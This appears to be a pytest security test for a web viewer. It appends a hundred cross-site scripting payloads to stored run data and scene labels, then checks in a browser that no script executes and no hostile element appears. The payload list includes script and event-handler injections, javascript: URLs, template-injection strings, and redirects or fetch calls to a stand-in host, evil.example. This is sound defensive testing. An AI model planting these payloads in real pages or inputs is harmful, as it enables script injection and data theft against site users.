"""A hundred payloads in every text of run, dataset and scene: none is ever more than text."""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest

from navloom.scenes.scene_uri import load_scene
from navloom.web.bundle import write_bundle
from navloom.web.documents import Documents
from navloom.web.source_discovery import open_sources
from tests.evals.lines import rewrite
from tests.web.browsing import Watched, browser, needs_browser, page_of

CALLS = ("window.pwned=1", "alert(1)", "Navloom.pwned=1", "fetch('http://evil.example/')")
FORMS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "'\"><script>{}</script>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "javascript:{}", "</title><script>{}",
    "<a href='javascript:{}'>x</a>", "</script><script>{}</script>", "<style>@import 'http://evil'",
    "<math><mi xlink:href='data:x,{}'>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}",
    "<body onload={}>", "<input autofocus onfocus={}>", "<details open ontoggle={}>",
    "<base href='http://evil.example/'>", "<meta http-equiv=refresh content='0;url=http://evil'>",
    "\u2028{}//\u2029", "<object data='data:text/html,<script>{}</script>'></object>",
    "*/;{};/*", "<svg><animate onbegin={} attributeName=x dur=1s>", "<!--><script>{}</script-->",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "<link rel=stylesheet href='http://evil.example/'>",
)  # fmt: skip
PAYLOADS = [f"{form.format(call)} {n}" for form in FORMS for n, call in enumerate(CALLS)]
KEPT = {
    *("id", "scene", "status", "viewpoint", "start", "goals", "reference", "kind", "role", "path"),
    *("trajectory", "end", "task", "split", "check", "direction", "trigger", "floor", "agent"),
}


def poisoned(value: Any, payloads: Iterator[str], key: str = "") -> Any:
    """Every text that somebody may have said, with a payload in it; what code goes by stays."""
    if isinstance(value, dict):
        return {name: poisoned(each, payloads, name) for name, each in value.items()}
    if isinstance(value, list) and key not in KEPT:
        return [poisoned(each, payloads, key) for each in value]
    if isinstance(value, str) and key not in KEPT and value:
        return value + next(payloads)
    return value


@pytest.fixture(scope="module")
def folder(runs: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Copies of the runs with payloads, and a home whose names are payloads."""
    made = tmp_path_factory.mktemp("poisoned")
    payloads = cycle(PAYLOADS)
    for name in ("heuristic", "random", "relays"):
        run = made / name
        run.mkdir()
        for file in ("run.json", "samples.jsonl", "errors.jsonl", "summary.json"):
            (run / file).write_bytes((runs / name / file).read_bytes())
        rewrite(run, lambda lines: [poisoned(each, payloads) for each in lines])
    scene = load_scene("demo:flat").model_dump(mode="json")
    for each in (*scene["items"], *scene["regions"]):
        for key in ("name", "label"):
            if key in each:
                each[key] = str(each[key]) + next(payloads)
    (made / "home.json").write_text(json.dumps(scene))
    return made


@pytest.fixture(scope="module")
def documents(folder: Path) -> Documents:
    return Documents(open_sources([str(folder), str(folder / "home.json")], print))


def test_there_are_a_hundred() -> None:
    assert len(set(PAYLOADS)) == 100


@pytest.mark.browser
@pytest.mark.slow
@needs_browser
@pytest.mark.timeout(600)
def test_no_script_runs(documents: Documents, tmp_path: Path) -> None:
    write_bundle(documents, tmp_path / "bundle", print)
    shown = 0
    with browser() as opened, page_of(opened, "file://") as watched:
        for n, source in enumerate(documents.sources):
            tos = [
                f"/source/{n}/samples",
                *(f"/source/{n}/{name}" for name, _ in source.header().tabs),
            ]
            tos += [f"/source/{n}/sample/{row.id}?calls=1" for row in source.rows()]
            for to in [*tos, "/compare/0/1"]:
                watched.open(f"file://{tmp_path}/bundle/index.html#{to}")
                shown += harmless(watched, to)
    assert shown > 100


def harmless(watched: Watched, to: str, home: str = "file://", where: str = "*") -> int:
    """Nothing ran, nothing was asked for, no element was made; how many payloads are seen."""
    assert watched.wrong == [], to
    assert watched.page.evaluate("window.pwned === undefined && Navloom.pwned === undefined"), to
    strange = watched.page.evaluate(
        """([home, where]) => [...document.querySelectorAll(where)].filter((each) =>
            ['SCRIPT', 'IFRAME', 'OBJECT', 'BASE', 'STYLE'].includes(each.tagName)
              && !(each.src || '').startsWith(home)
            || [...each.attributes].some((one) => one.name.startsWith('on')
              || /^javascript:/i.test(one.value))).map((each) => each.outerHTML.slice(0, 200))""",
        [home, where],
    )
    assert strange == [], to
    text = watched.page.inner_text("body")
    return sum(payload in text for payload in PAYLOADS)
